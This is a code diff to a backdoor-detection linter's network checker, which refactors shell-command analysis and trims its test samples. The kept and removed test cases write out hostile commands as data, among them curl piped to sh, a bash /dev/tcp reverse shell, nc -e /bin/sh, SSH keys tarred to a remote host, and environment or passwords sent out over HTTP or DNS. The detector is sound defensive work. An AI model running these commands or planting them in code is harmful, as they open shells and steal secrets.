@@ -22,8 +22,8 @@ from backdoor_lint.checkers.py_dataflow import (
     SINKS,
     Dataflow,
     Sink,
+    analyse_command,
     dataflow,
-    shell_facts,
 )
 from backdoor_lint.checkers.tree import visit_tree
 from backdoor_lint.checkers.vocabulary import DECODERS, exfil_service, raw_ip
@@ -256,69 +256,52 @@ class NetworkChecker(PythonChecker):
 
     # -- shell commands -------------------------------------------------------------------
     def _check_shell(self, call: cst.Call, function: str, command: cst.BaseExpression) -> None:
-        rendered = self.flow.render(command)
-        if isinstance(command, (cst.List, cst.Tuple)):
-            rendered = self._render_list(command)
-        elif isinstance(command, cst.Name):
-            values = [v for k, v in self.context.assigned_values(command) if k == "="]
-            if len(values) == 1 and isinstance(values[0], (cst.List, cst.Tuple)):
-                rendered = self._render_list(values[0])
-        facts = shell_facts(rendered)
+        """What the shell analysis cannot see of a command run from Python: when it runs (BDL401),
+        where it connects (BDL403), Python values flowing into it (BDL402) and programs this module
+        downloaded (BDL405). The command's own shell behaviour is py_shell.ShellCommandChecker's."""
+        rendered = self.flow.shell_command(command)
+        analysis = analyse_command(rendered)
         program = rendered.split()[0] if rendered.split() else ""
         downloaded = self.downloads().get(program) if program and HOLE not in program else None
         if downloaded:
             self.report(call, "BDL405", f"{self.context.code(call.func)}() runs {program}, a file downloaded by "
                         f"{downloaded}: the program that runs is whatever that server sent")
-        if not facts.tools and not facts.dev_tcp:
+        if not analysis.network:
             return
-        shown = rendered.replace(HOLE, "{…}")
-        if len(shown) > 120:
-            shown = shown[:117] + "..."
         label = f"{self.context.code(call.func)}()"
-        tool = facts.tools[0] if facts.tools else "/dev/tcp"
+        tool = analysis.network[0].program
         where = self._import_time(call)
         if where:
             self.report(call, "BDL401", f"{label} runs `{tool}` {where}: every import makes this network "
                         "request without anyone calling it")
-        problem = None
-        if facts.reverse_shell:
-            problem = f"opens a reverse shell (`{facts.reverse_shell[:60]}`)"
-        elif facts.pipe_to_shell:
-            problem = f"pipes a download into an interpreter (`{facts.pipe_to_shell[:60]}`)"
-        elif facts.download_exec:
-            problem = facts.download_exec
-        elif facts.dev_tcp:
-            problem = "talks to the network through /dev/tcp"
-        elif facts.uploads:
-            problem = f"sends data out with {tool}"
-        elif set(facts.tools) & {"nc", "ncat", "netcat", "socat", "telnet"}:
-            problem = f"opens a raw network connection with {tool}"
-        if problem:
-            self.report(call, "BDL405", f"{label} runs `{shown}`, which {problem}: the command's effect is "
-                        "decided by a remote server, not by the reviewed code")
         taints = [t for t in self.flow.taints(command) if t.kind in EXFIL_KINDS]
         sources = [t.describe() for t in _sorted(taints)]
-        if facts.env_source:
-            sources.insert(0, f"the whole environment (`{facts.env_source}` in the command, line "
-                              f"{self.flow.line(call)})")
-        sources += [f"{s} (in the command)" for s in facts.secret_sources]
-        if facts.tools and not facts.secret_sources:
+        if not sources and HOLE in rendered:  # a credential path in a part the shell analysis cannot read
             path = self.flow.credential_path(command)
             if path:
                 sources.append(f"credential file {path} (named in the command)")
-        if sources and (facts.uploads or facts.tools or facts.dev_tcp):
+        if sources and not any(f.code == "BDL402" for f in analysis.findings):
             self.report(call, "BDL402", f"{', '.join(sources[:3])} is sent out by `{tool}` via {label} "
                         f"(line {self.flow.line(call)}): whoever runs that endpoint receives it")
-        targets = [split_url(url, "http") for url in facts.urls[:3]] + [(ip, "") for ip in facts.ips[:2]]
+        self._check_shell_destinations(call, label, analysis)
+
+    def _check_shell_destinations(self, call: cst.Call, label: str, analysis) -> None:
+        """BDL403: a network program of the command talks to a raw IP or a known exfiltration service."""
         reported = set()
-        for parts in targets:
-            if not parts or parts[0] in reported:
-                continue
-            reported.add(parts[0])
-            ip, service = raw_ip(parts[0]), exfil_service(parts[0], parts[1])
-            if ip or service:
-                what = f"the raw IP address {ip}" if ip else f"{parts[0]}, a {service}"
-                self.report(call, "BDL403", f"{label} runs `{tool}` against {what}")
+        for use in analysis.network:
+            for destination in use.destinations:
+                if "://" in destination:
+                    parts = split_url(destination, "http")
+                else:  # host, user@host:path, host:port
+                    host = destination.rsplit("@", 1)[-1].split(":", 1)[0].split("/", 1)[0]
+                    parts = (host, "") if raw_ip(host) else None
+                if not parts or parts[0] in reported:
+                    continue
+                reported.add(parts[0])
+                ip, service = raw_ip(parts[0]), exfil_service(parts[0], parts[1])
+                if ip or service:
+                    what = f"the raw IP address {ip}" if ip else f"{parts[0]}, a {service}"
+                    self.report(call, "BDL403", f"{label} runs `{use.program}` against {what}")
 
     def downloads(self) -> dict[str, str]:
         """Paths this module downloads to: urlretrieve(url, path), curl -o path, wget -O path."""
@@ -338,24 +321,13 @@ class NetworkChecker(PythonChecker):
                     return
                 shell = checker.flow.shell_call(node)
                 if shell is not None:
-                    command = shell[1]
-                    text = checker._render_list(command) if isinstance(command, (cst.List, cst.Tuple)) \
-                        else checker.flow.render(command)
-                    for match in re.finditer(r"\b(?:curl|wget)\b[^;&|]*?(?:\s-o\s*|\s--output[=\s]|\s-O\s*|"
-                                             r"\s--output-document[=\s])(\S+)", text):
-                        found[match.group(1).strip("'\"")] = f"`{text.split()[0]}` on line {checker.flow.line(node)}"
+                    text = checker.flow.shell_command(shell[1])
+                    for path in analyse_command(text).downloads:
+                        found[path] = f"`{text.split()[0]}` on line {checker.flow.line(node)}"
 
         visit_tree(self.context.module, Finder())
         self.flow.memo[key] = found
         return found
-
-    def _render_list(self, node: cst.List | cst.Tuple) -> str:
-        words = [self.flow.render(e.value) for e in node.elements]
-        # [shell, "-c", script]: the script is the command line
-        for index, word in enumerate(words[:-1]):
-            if word in ("-c", "/c", "-Command") and index >= 1:
-                return words[index + 1]
-        return " ".join(w if HOLE in w or " " not in w else w for w in words)
 
     # -- local functions that do network ----------------------------------------------------
     def _check_local_call(self, call: cst.Call) -> None:
@@ -415,9 +387,9 @@ class NetworkChecker(PythonChecker):
                 if sink is not None and id(current) not in direct:
                     direct[id(current)] = f"{checker.context.code(node.func)}(), line {flow.line(node)}"
                 elif shell is not None and id(current) not in direct:
-                    facts = shell_facts(flow.render(shell[1]))
-                    if facts.tools:
-                        direct[id(current)] = f"`{facts.tools[0]}` via {shell[0]}(), line {flow.line(node)}"
+                    uses = analyse_command(flow.shell_command(shell[1])).network
+                    if uses:
+                        direct[id(current)] = f"`{uses[0].program}` via {shell[0]}(), line {flow.line(node)}"
                 else:
                     edges.setdefault(id(current), []).extend(checker.context.local_functions(node))
 
@@ -536,8 +508,6 @@ class NetworkChecker(PythonChecker):
         Invalid('import os\ntry: import requests\nexcept ImportError: pass\n'
                 'requests.post("https://c.example/x", data=dict(os.environ))\n', "BDL402", 4),
         Invalid('from os import system as run_quietly\nrun_quietly("curl -s https://c.example/i | sh")\n', "BDL401", 2),
-        Invalid('import os\nrun = os.system\nrun("curl -s https://c.example/i | sh")\n', "BDL405", 3),
-        Invalid('import os\ngetattr(os, "system")("curl -s https://c.example/i | sh")\n', "BDL405", 2),
         Invalid('import urllib.request as u\nclass C:\n    DATA = u.urlopen("https://cfg.example/c").read()\n',
                 "BDL401", 3),
         Invalid('import requests\ndef log(f):\n    return f\n@log(requests.get("https://x.example"))\ndef g(): ...\n',
@@ -597,9 +567,6 @@ class NetworkChecker(PythonChecker):
                 "BDL402", 5),
         Invalid('import os, requests\nclass Reporter:\n    def __init__(self):\n        self.session = requests.Session()\n'
                 '    def send(self, url):\n        self.session.post(url, json=dict(os.environ))\n', "BDL402", 6),
-        # the seed example: environment sent by curl from Python
-        Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
-                'shell=True)\n', "BDL402", 2),
         # BDL403: hidden host (base64 fragments, join of fragments, chr, reversal, hex), raw IP, known service
         Invalid('import base64, httpx\n_E = base64.b64decode("aHR0cHM6Ly9jZG4tc3RhdHMuZXhhbXBsZS92Mg==").decode()\n'
                 'def f():\n    return httpx.get(_E, params={"v": 1})\n', "BDL403", 4),
@@ -626,18 +593,8 @@ class NetworkChecker(PythonChecker):
                 '        socket.gethostbyname(f"{c}.{i}.{ZONE}")\n', "BDL404", 9),
         Invalid('import os\nimport dns.resolver\ndef f():\n'
                 '    dns.resolver.resolve(os.environ["DB_PASSWORD"] + ".x.example", "A")\n', "BDL404", 4),
-        # BDL405: network shell commands, also in lists and built from fragments
-        Invalid('import subprocess\ndef f():\n    subprocess.run("curl -fsSL https://get.example/i.sh | sh", shell=True)\n',
-                "BDL405", 3),
-        Invalid('import os\ndef f(h):\n    os.system(f"bash -i >& /dev/tcp/{h}/4444 0>&1")\n', "BDL405", 3),
-        Invalid('import subprocess\nCMD = ["bash", "-c", "wget -q https://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a"]\n'
-                'def f():\n    subprocess.Popen(CMD)\n', "BDL405", 4),
-        Invalid('import subprocess as sp\nT = "cu" + "rl"\ndef f():\n    sp.call(T + " -s https://get.example | b" + "ash", '
-                'shell=True)\n', "BDL405", 4),
-        Invalid('import pty\npty.spawn(["nc", "-e", "/bin/sh", "198.51.100.7", "4444"])\n', "BDL405", 2),
-        Invalid('import os\ndef f():\n    os.popen("tar cz ~/.ssh | nc collector.example 9000")\n', "BDL405", 3),
-        Invalid('import subprocess\nsubprocess.run("npm test; curl -s https://telemetry.example/collect -d \\"$(env)\\"", '
-                'shell=True)\n', "BDL405", 2),
+        # BDL405: running a program this module downloaded (what the command text itself does is
+        # py_shell.ShellCommandChecker's, with its examples)
         Invalid('import os, subprocess, urllib.request\nDEST = "/tmp/agent"\ndef f():\n'
                 '    urllib.request.urlretrieve("https://dl.example/agent", DEST)\n    os.chmod(DEST, 0o755)\n'
                 '    subprocess.Popen([DEST, "--daemon"])\n', "BDL405", 6),
